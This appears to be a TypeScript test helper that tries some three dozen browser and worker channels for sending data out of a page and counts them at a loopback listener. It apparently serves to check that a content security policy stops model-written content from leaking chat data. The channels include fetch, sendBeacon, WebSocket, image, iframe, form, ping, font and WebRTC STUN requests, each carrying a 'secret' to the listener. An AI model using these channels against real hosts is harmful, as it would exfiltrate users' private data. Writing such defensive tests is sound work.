// The ways by which something could leave a page or a worker, each as the simplest code that takes it, and a computer on loopback
// that counts what arrives. The functions run in the browser and see nothing of this module. Not among them are those that no
// policy closes in Chromium: going to another page (an address, a window, a link, a <meta> refresh) and <link rel=preconnect>.
// They take a script or an element that nothing the model writes can become: e2e/hostile-text.spec.ts.
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export interface Listener {
  readonly at: { readonly url: string; readonly stunPort: number };
  /** The ways by which something has come, by their names. */
  arrivals(): readonly string[];
  /** Chromium opens some before it looks at a page's policy (for a frame), and then asks for nothing. */
  connections(): number;
  forget(): void;
  close(): void;
}

export async function listen(): Promise<Listener> {
  const seen = new Set<string>();
  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? "/", "http://listener");
    seen.add(searchParams.get("by") ?? pathname);
    response
      .writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" })
      .end("heard");
  });
  let connections = 0;
  server.on("connection", () => {
    connections += 1;
  });
  server.on("upgrade", (request, socket) => {
    seen.add(new URL(request.url ?? "/", "http://listener").searchParams.get("by") ?? "upgrade");
    socket.destroy();
  });
  const stun = createSocket("udp4", () => seen.add("rtc"));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
  return {
    at: {
      url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      stunPort: stun.address().port,
    },
    arrivals: () => [...seen].sort(),
    connections: () => connections,
    forget: () => {
      seen.clear();
      connections = 0;
    },
    close: () => {
      stun.close();
      server.closeAllConnections();
      server.close();
    },
  };
}

/** In a page. Resolves when each way was tried; gives the names of all that were. */
export async function leavePage({ url, stunPort }: Listener["at"]): Promise<string[]> {
  const to = (by: string, scheme = "http"): string =>
    `${url.replace("http", scheme)}/leak?by=${by}&chat=secret`;
  const settled = (target: EventTarget): Promise<unknown> =>
    new Promise((resolve) => {
      for (const type of ["load", "error", "loadeddata", "open", "close"])
        target.addEventListener(type, resolve, { once: true });
      setTimeout(resolve, 1_000); // some never say how they ended
    });
  const put = (tag: string, attributes: Record<string, string>, parent: Element = document.head) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return settled(element);
  };
  const body = document.body;
  const link = (rel: string, more: Record<string, string> = {}) =>
    put("link", { rel, href: to(rel.replace(" ", "-")), ...more });
  const inNewWorker = async (script: string): Promise<unknown> =>
    settled(new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" }))));
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to("fetch")),
    "fetch-blind": () => fetch(to("fetch-blind"), { method: "POST", mode: "no-cors", body: "secret" }),
    "fetch-keepalive": () => fetch(to("fetch-keepalive"), { keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", to("xhr"));
      request.send();
      return settled(request);
    },
    beacon: () => navigator.sendBeacon(to("beacon"), "secret"),
    socket: () => settled(new WebSocket(to("socket", "ws"))),
    events: () => settled(new EventSource(to("events"))),
    picture: () => put("img", { src: to("picture") }, body),
    "picture-set": () => put("img", { srcset: `${to("picture-set")} 2x` }, body),
    "style-url": () => {
      body.style.backgroundImage = `url("${to("style-url")}")`;
      return body.offsetWidth;
    },
    sheet: () => put("link", { rel: "stylesheet", href: to("sheet") }),
    icon: () => link("icon"),
    prefetch: () => link("prefetch"),
    preload: () => link("preload", { as: "image" }),
    modulepreload: () => link("modulepreload"),
    script: () => put("script", { src: to("script") }),
    import: () => import(/* @vite-ignore */ to("import")),
    frame: () => put("iframe", { src: to("frame") }, body),
    "frame-inline": () => put("iframe", { srcdoc: `<img src="${to("frame-inline")}">` }, body),
    object: () => put("object", { data: to("object") }, body),
    embed: () => put("embed", { src: to("embed") }, body),
    video: () => put("video", { src: to("video"), preload: "auto" }, body),
    font: () => new FontFace("x", `url("${to("font")}")`).load(),
    drawing: () => {
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", to("drawing"));
      const drawing = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      drawing.append(image);
      body.append(drawing);
      return settled(image);
    },
    ping: () => {
      const anchor = document.createElement("a");
      anchor.href = "#";
      anchor.setAttribute("ping", to("ping"));
      body.append(anchor);
      anchor.click();
    },
    form: async () => {
      const frame = document.createElement("iframe");
      frame.name = "form-target";
      const form = document.createElement("form");
      Object.assign(form, { action: to("form"), method: "post", target: "form-target" });
      body.append(frame, form);
      form.submit();
      await settled(frame);
    },
    "blob-worker": () => inNewWorker(`fetch(${JSON.stringify(to("blob-worker"))})`),
    cache: async () => (await caches.open("leak")).add(to("cache")),
    rtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve(null);
        setTimeout(resolve, 2_000);
      });
    },
  };
  const tries = Object.values(ways).map(async (way) => way());
  await Promise.allSettled(tries);
  return Object.keys(ways);
}

/** In a worker. */
export async function leaveWorker({ url }: Listener["at"]): Promise<string[]> {
  const to = (by: string, scheme = "http"): string =>
    `${url.replace("http", scheme)}/leak?by=${by}&chat=secret`;
  const settled = (target: EventTarget): Promise<unknown> =>
    new Promise((resolve) => {
      for (const type of ["load", "error", "open", "close"])
        target.addEventListener(type, resolve, { once: true });
      setTimeout(resolve, 1_000);
    });
  const ways: Record<string, () => unknown> = {
    "worker-fetch": () => fetch(to("worker-fetch")),
    "worker-fetch-blind": () =>
      fetch(to("worker-fetch-blind"), { method: "POST", mode: "no-cors", body: "secret" }),
    "worker-xhr": () => {
      const request = new XMLHttpRequest();
      request.open("GET", to("worker-xhr"));
      request.send();
      return settled(request);
    },
    "worker-socket": () => settled(new WebSocket(to("worker-socket", "ws"))),
    "worker-events": () => settled(new EventSource(to("worker-events"))),
    "worker-import": () => import(/* @vite-ignore */ to("worker-import")),
    "worker-cache": async () => (await caches.open("leak")).add(to("worker-cache")),
    "worker-font": () => new FontFace("x", `url("${to("worker-font")}")`).load(),
    "worker-blob-worker": () => {
      const script = `fetch(${JSON.stringify(to("worker-blob-worker"))})`;
      return settled(new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" }))));
    },
  };
  await Promise.allSettled(Object.values(ways).map(async (way) => way()));
  return Object.keys(ways);
}
